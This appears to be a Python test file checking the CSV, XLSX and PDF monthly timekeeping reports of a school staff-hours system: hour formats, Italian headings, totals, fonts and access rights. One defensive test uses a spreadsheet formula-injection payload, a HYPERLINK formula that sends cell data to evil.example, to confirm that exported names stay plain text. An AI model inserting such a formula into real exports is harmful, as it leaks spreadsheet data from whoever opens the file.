"""The reports of seed 001 as the office opens them: an Italian CSV (`;`, hours "7:12",
BOM), an XLSX of real time cells with a totals row, a PDF in a Unicode font under the
institution's letterhead. Rendering is pure: one SQLite database for the whole module."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from openpyxl.utils.datetime import CALENDAR_MAC_1904
from pdf_text import font_names, pdf_text
from sqlalchemy.orm import Session
from world import World, world

from server.db import make_engine, upgrade
from server.errors import NotAllowed
from server.i18n.current import use_locale
from server.office import reports

NOW = datetime(2026, 12, 6, 9, 30, tzinfo=UTC)  # 10:30 in Rome
DUE = 21 * (7 * 60 + 12)  # April 2026: 21 working days of 7h12 (Easter Monday off)


@pytest.fixture(scope="module")
def school(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('reports')}/timbra.db")
    upgrade(engine)
    with Session(engine) as session:
        w = world(session, "school")
        # Ann: 1h of paid overtime; Cat (library): 20 minutes short, not tolerated.
        w.stamps("ann", date(2026, 4, 16), "in 07:30, out 13:00, in 13:30, out 16:12 code STRP")
        w.stamps("cat", date(2026, 4, 16), "in 07:50, out 14:42")
        w.employees["cat"].name = "Niccolò D’Amico – 5 €"  # beyond a Latin-1 core font
        session.commit()
        yield w
    engine.dispose()


def report(w: World, kind: str, who: str = "office") -> reports.ReportTable:
    return reports.institution_report(w.session, w.users[who], 2026, 4, kind, now=NOW)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8 accents right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def sheet_xml(xlsx: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()


def test_the_balances_csv_is_what_italian_excel_opens(school: World) -> None:
    """Hours as "7:12" (negatives "-144:00"), never raw minutes; `;` between fields;
    Italian headings; a totals row."""
    rows = csv_rows(reports.to_csv(report(school, "balances")))
    assert rows[0] == ["Matricola", "Nome", "Unità", "Lavorato", "Dovuto", "Saldo",
                       "Buoni pasto", "Anomalie"]
    by_number = {r[0]: r for r in rows[1:]}
    assert by_number["ANN"][3:6] == ["7:12", "151:12", "-144:00"]
    assert by_number["CAT"][1:6] == ["Niccolò D’Amico – 5 €", "library", "6:52", "151:12",
                                     "-144:20"]
    assert by_number["Totale"][3:6] == ["14:04", "453:36", "-439:32"]
    assert not [cell for row in rows[1:] for cell in row[3:6] if ":" not in cell]
    assert by_number["ANN"][7] == "21" and by_number["Totale"][7] == str(
        sum(int(by_number[n][7]) for n in ("ANN", "BOB", "CAT")))


def test_the_csv_headings_follow_the_readers_language(school: World) -> None:
    with use_locale("en"):
        rows = csv_rows(reports.to_csv(report(school, "overtime")))
    assert rows[0][:4] == ["Number", "Name", "Unit", "Overtime paid"]
    assert rows[-1][0] == "Total"


def test_the_overtime_xlsx_holds_time_cells_that_add_up(school: World) -> None:
    """Seed 001: "un tabulato nel quale vengono evidenziate le ore straordinarie ..., le ore
    ammesse al recupero e le ore considerate assenze ingiustificate"."""
    data = reports.to_xlsx(report(school, "overtime"))
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet is not None
    assert book.epoch == CALENDAR_MAC_1904  # a negative duration shows "-0:20", not ####
    heading = [sheet.cell(r, 1).value for r in range(1, 5)]
    assert heading[:3] == ["School",
                           "Straordinario, ore per recupero, assenze ingiustificate – "
                           "aprile 2026", "Mese aperto: i valori possono ancora cambiare"]
    assert heading[3] == "Stampato il 06/12/2026 10:30"
    header = [c.value for c in sheet[5]]
    assert header[3:] == ["Straordinario retribuito", "Straordinario a recupero",
                          "Permessi da recuperare", "Flessibilità negativa",
                          "Assenze ingiustificate"]
    people = {row[0].value: row for row in sheet.iter_rows(min_row=6, max_row=8)}
    paid = people["ANN"][3]
    # A number in the file (a day's fraction: 1 h = 1/24), which openpyxl reads back as
    # the duration its format says it is.
    assert paid.number_format == "[h]:mm" and paid.value == timedelta(hours=1)
    assert re.search(rf'<c r="{paid.coordinate}" s="\d+" t="n"><v>0.041666', sheet_xml(data))
    # Cat: one day 20 minutes short (negative flex), 20 days absent; Bob all 21 absent.
    assert people["CAT"][6].value == timedelta(minutes=20)
    assert people["CAT"][7].value == timedelta(minutes=20 * 432)
    assert people["BOB"][7].value == timedelta(minutes=21 * 432)
    totals = sheet[9]
    assert totals[0].value == "Totale"
    for cell in totals[3:]:
        letter = cell.column_letter
        assert cell.value == f"=SUM({letter}6:{letter}8)"
        assert cell.number_format == "[h]:mm"
    # What Excel's SUM gives: Ann and Cat 20 absent days each, Bob 21.
    assert sum((people[n][7].value for n in people), timedelta()) == timedelta(
        minutes=(20 + 20 + 21) * 432)


def test_the_report_pdf_prints_the_letterhead_in_a_unicode_font(school: World) -> None:
    pdf = reports.to_pdf(report(school, "balances"))
    assert [n.split("+")[1] for n in font_names(pdf)] == ["DejaVuSansBold", "DejaVuSansBook"]
    text = pdf_text(pdf)
    for shown in ("School", "Tabulato dei saldi – aprile 2026",
                  "Mese aperto: i valori possono ancora cambiare",
                  "Stampato il 06/12/2026 10:30", "Niccolò D’Amico – 5 €", "-144h00", "Totale",
                  "-439h32"):
        assert shown in text, shown
    assert not re.search(r"^-?\d{3,}$", text, re.M)  # no raw minutes ("-8640")


def test_a_manager_gets_only_their_unit_and_an_employee_nothing(school: World) -> None:
    assert [r[0] for r in report(school, "balances", "library_head").rows] == ["CAT"]
    with pytest.raises(NotAllowed):
        report(school, "balances", "ann")


def test_a_name_that_is_a_formula_stays_text_in_csv_and_xlsx(school: World) -> None:
    """A name imported from CSV as `=HYPERLINK(...)` must not become a live formula in the
    office's spreadsheet; the figures (negative balances included) stay numbers."""
    ann = school.employees["ann"]
    ann.name, ann.unit = '=HYPERLINK("http://evil.example/?x="&A1,"Ann")', "@SUM(A1)"
    try:
        table = report(school, "balances")
    finally:
        school.session.rollback()
    sheet = openpyxl.load_workbook(io.BytesIO(reports.to_xlsx(table))).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows(min_row=6) if r[0].value == "ANN")
    assert row[1].data_type == "s"
    assert row[1].value == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ann\")"
    assert row[2].value == "'@SUM(A1)"
    assert row[5].value == timedelta(minutes=432 - DUE)  # a number, not text
    line = next(r for r in csv_rows(reports.to_csv(table)) if r[0] == "ANN")
    assert line[1].startswith("'=HYPERLINK(") and line[2] == "'@SUM(A1)"
    assert line[5] == "-144:00"  # our own hours are not touched


def test_the_school_is_offered_no_payroll_deductions(school: World) -> None:
    """Seed 003: a debt not recovered «comporterà la corrispondente decurtazione della
    retribuzione ... o a scelta del dipendente la compensazione con giorni di ferie»; the
    school's rules settle it with ferie (`not_recovered use leave ferie`), so its reports
    page offers the hours account and leave but no list of deductions from pay."""
    offered = reports.report_kinds(school.session, "school", 2026, 4)
    assert "account" in offered and "deductions" not in offered
    assert {"balances", "overtime"} <= set(offered)


def test_a_month_before_the_rules_offers_the_reports_that_say_so(school: World) -> None:
    """A month typed before the first rules in force (the reports page's month field takes
    any year from 1901): the page still lists the reports, each download then says there
    are no rules that month, instead of the page failing."""
    offered = reports.report_kinds(school.session, "school", 1901, 1)
    assert set(offered) == set(reports.KINDS)
